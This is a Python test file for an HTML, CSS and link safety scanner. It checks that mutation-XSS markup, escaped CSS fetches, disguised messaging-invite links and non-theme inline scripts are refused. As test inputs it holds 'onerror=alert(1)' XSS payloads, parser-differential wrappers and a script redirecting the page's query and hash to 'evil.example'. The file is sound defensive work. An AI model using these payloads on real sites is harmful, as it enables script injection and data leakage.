"""The allowlist, the URL and CSS readers and the theme-script test, each class of issue 14 directly."""

from __future__ import annotations

from pathlib import Path

import material
import pytest

from plainpolicy.safety.csspolicy import stylesheet_uses
from plainpolicy.safety.htmlpolicy import Mode, scan
from plainpolicy.safety.themescripts import (
    add_policy,
    script_hash,
    theme_script_matcher,
)
from plainpolicy.safety.urlpolicy import host_of, invite_kind, is_external

X = "<img src=x onerror=alert(1)>"
MATERIAL_TEMPLATES = Path(material.__file__).parent / "templates"
REPO = Path(__file__).resolve().parents[1]


def rules(html: str, mode: Mode = Mode.CONTENT) -> list[str]:
    return [problem.rule for problem in scan(html, mode).problems]


@pytest.mark.parametrize(
    "html",
    [
        f"<style>p{{}}</style x>{X}", f"<style>p{{}}</style/>{X}", f"<svg><style>{X}</style></svg>", f"<math><style>{X}</style></math>",
        *(f'<{tag}><p title="</{tag}>{X}"></{tag}>' for tag in ("noscript", "textarea", "title", "xmp", "noembed", "noframes")),
        f"<!-->{X}-->", f"<![CDATA[ x ]]>{X}", f"<form><math><mtext></form><form><mglyph><style></math>{X}",
    ],
)
def test_parser_differentials_are_refused(html: str) -> None:
    assert "security/raw-html" in rules(html)


@pytest.mark.parametrize(
    "html",
    [f'<a href="/" title="{X}">x</a>', f'<abbr title="{X}">DSL</abbr>', '<span title="&lt;img src=x onerror=alert(1)&gt;">x</span>'],
)
def test_titles_with_markup_are_refused(html: str) -> None:
    assert rules(html) == ["security/raw-html"]


@pytest.mark.parametrize(
    "css",
    [
        "p{background:\\75 rl(https://e.example/a)}", "@import 'https://e.example/a.css';", "@import url(//e.example/a.css);",
        "@\\69mport 'https://e.example/a.css';", "p{background:image-set('a.png' 1x, 'https://e.example/b.png' 2x)}",
        "p{background:-webkit-image-set(url(a.png) 1x, url(https://e.example/b.png) 2x)}", "@font-face{src:url(https://e.example/f.woff2)}",
    ],
)
def test_every_css_fetch_is_seen(css: str) -> None:
    assert any(use.kind == "url" and is_external(use.value) for use in stylesheet_uses(css))


@pytest.mark.parametrize("attribute", ["fill", "mask", "clip-path", "cursor", "filter", "stroke"])
def test_svg_paint_may_only_point_inside_the_image(attribute: str) -> None:
    assert rules(f'<svg><rect {attribute}="url(https://e.example/x#a)"/></svg>')
    assert rules('<svg><rect width="1" height="1" fill="url(#gradient)"/></svg>') == []


@pytest.mark.parametrize(
    "url",
    [
        "https://chat%2Ewhatsapp%2Ecom/AbC", "https://chat\u3002whatsapp\u3002com/AbC", "https://\uff43\uff48\uff41\uff54.whatsapp.com/AbC",
        "https://chat\uff0ewhatsapp\uff0ecom/AbC", "https://wa.link/ab12", "https://www.whatsapp.com/channel/0029Va", "https://ig.me/m/sam",
        "https://www.facebook.com/groups/123", "https://bit.ly/3abc", "HTTPS://WA.ME/447700900123",
    ],
)
def test_disguised_and_new_invitations_are_found(url: str) -> None:
    assert invite_kind(url) is not None
    assert rules(f'<a href="{url}">x</a>') == ["links/private-invite"]


def test_links_to_helplines_and_phone_numbers_are_fine() -> None:
    html = '<a href="https://www.childline.org.uk/get-support/">Childline</a> <a href="tel:08001111">0800 1111</a> <a href="mailto:a@b.org">mail</a>'
    assert rules(html) == []
    assert host_of("https://chat%2Ewhatsapp%2Ecom/x") == "chat.whatsapp.com"


def test_a_commitment_comment_stays_allowed() -> None:
    assert rules("<ul><li>We ask first. <!-- commitment: photo-consent --></li></ul>") == []


def test_the_theme_scripts_are_known_and_a_breakout_is_not() -> None:
    known = theme_script_matcher([REPO / "overrides", MATERIAL_TEMPLATES])
    good = '__md_scope=new URL("..",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0)),0),__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+"."+e)),__md_set=(e,_,t=localStorage,a=__md_scope)=>{try{t.setItem(a.pathname+"."+e,JSON.stringify(_))}catch(e){}}'
    assert known(good)
    assert not known(good.replace('URL("..",', 'URL("",alert(1),"",'))
    assert not known('window.location.replace(["https://evil.example/",window.location.search,window.location.hash].join(""))')
    page = f"<!doctype html><html><head><meta charset=\"utf-8\"><script>{good}</script></head><body></body></html>"
    found = scan(page, Mode.DOCUMENT, known)
    assert found.problems == [] and found.inline_scripts == [good]
    secured = add_policy(page, found.inline_scripts)
    assert secured.index("Content-Security-Policy") < secured.index("<script>")
    assert script_hash(good) in secured and "'unsafe-inline'" not in secured


def test_a_script_that_is_not_the_themes_is_refused_in_a_whole_page() -> None:
    page = "<!doctype html><html><head><title>x</title></head><body><script>alert(1)</script></body></html>"
    assert rules(page, Mode.DOCUMENT) == ["security/inline-script"]
